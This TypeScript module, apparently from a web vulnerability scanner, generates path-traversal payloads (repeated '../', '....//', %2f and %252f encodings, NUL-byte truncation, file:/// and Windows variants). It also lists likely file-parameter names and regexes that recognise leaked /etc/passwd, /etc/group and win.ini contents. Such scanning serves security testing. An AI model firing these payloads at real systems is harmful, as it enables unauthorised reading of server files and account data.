/** A file that every system of its kind has, and what it looks like whatever it is shown in: text, HTML or JSON. */
export type KnownFile = {
  /** Path from the root of the file system. */
  path: string;
  /** The same names in an order in which they lead nowhere. */
  nowhere: string;
  pattern: string;
};

/** Some writers of JSON put a backslash before it. */
const slash = '\\\\?/';
const lineEnd = '(?:\\r?\\n|\\\\n|<br ?/?>)';

/** In the order in which they are tried; where a page shows one anyway, the next proves more. Source: passwd(5), group(5). */
export const unixFiles: readonly KnownFile[] = [
  {
    path: 'etc/passwd',
    nowhere: 'passwd/etc',
    pattern: `root:[^:\\s]{0,100}:0:0:[^:\\n]{0,100}:${slash}[^:\\n]{0,60}:${slash}[\\w/.\\\\-]{1,60}`,
  },
  {
    path: 'etc/group',
    nowhere: 'group/etc',
    pattern: `\\b(?:root|wheel):[^:\\s]{0,60}:0:[\\w,-]{0,200}${lineEnd}[\\w.-]{1,32}:[^:\\s]{0,60}:\\d{1,6}:`,
  },
];

export const windowsFile: KnownFile = {
  path: 'windows/win.ini',
  nowhere: 'win.ini/windows',
  pattern: `(?i)\\[fonts\\]${lineEnd}(?s:.{0,300})\\[(?:extensions|mci extensions|files)\\]`,
};

/** More steps up than any site stands deep: above the root there is only the root. */
const depth = 10;
const up = (step: string) => step.repeat(depth);

/** A way to write a path in a value. `encoded` ones are sent as they are, others percent-encoded once. */
export type Spelling = { spell(path: string): string; encoded?: true; file?: 'windows' };

/** Every input is sent these. */
export const plainSpellings: readonly Spelling[] = [
  { spell: (path) => up('../') + path },
  { spell: (path) => `/${path}` },
];

/**
 * Ways past checks of a value, for inputs that look as if they named files.
 * @param sample a value that the site uses
 */
export function furtherSpellings(sample: string): Spelling[] {
  const folder = sample.slice(0, sample.lastIndexOf('/') + 1);
  const extension = /\.\w{1,5}$/.exec(sample)?.[0] ?? '.png';
  return [
    // has to begin as the site's own values do
    { spell: (path) => `${folder === '' ? `${sample}/` : folder}${up('../')}${path}` },
    // "../" is taken out, once
    { spell: (path) => up('....//') + path },
    // decoded once more by the application
    { spell: (path) => (up('../') + path).replaceAll('/', '%2f') },
    // has to end as the site's own values do, in languages whose files end at a NUL
    { spell: (path) => `${up('../')}${path}\0${extension}` },
    { spell: (path) => `file:///${path}` },
    { spell: (path) => up('..\\') + path.replaceAll('/', '\\'), file: 'windows' },
    { spell: (path) => `c:/${path}`, file: 'windows' },
  ];
}

/** Ways out of a folder of static files, as the last part of a path. */
export const pathSpellings: readonly Spelling[] = [
  { spell: (path) => up('../') + path, encoded: true },
  { spell: (path) => up('..%2f') + path.replaceAll('/', '%2f'), encoded: true },
  { spell: (path) => up('%2e%2e/') + path, encoded: true },
  { spell: (path) => up('..%252f') + path.replaceAll('/', '%252f'), encoded: true },
  { spell: (path) => up('..%5c') + path.replaceAll('/', '%5c'), encoded: true, file: 'windows' },
];

const fileNames =
  /^(?:f|p|pg)$|(?:file|path|dir|folder|doc(?:ument)?|page|template|tpl|include|inc|img|image|src|load|download|attachment|read|view|content|module|theme|style|skin|lang|layout|report|log|pdf|media|asset|name)/i;

/** An input that says which file to use: by its name, or because the site itself puts one there. */
export const namesFile = (name: string, sample: string): boolean =>
  fileNames.test(name) || /^[\w./\\-]{1,200}\.[a-z][a-z0-9]{1,4}$/i.test(sample) || /\w\/\w/.test(sample);
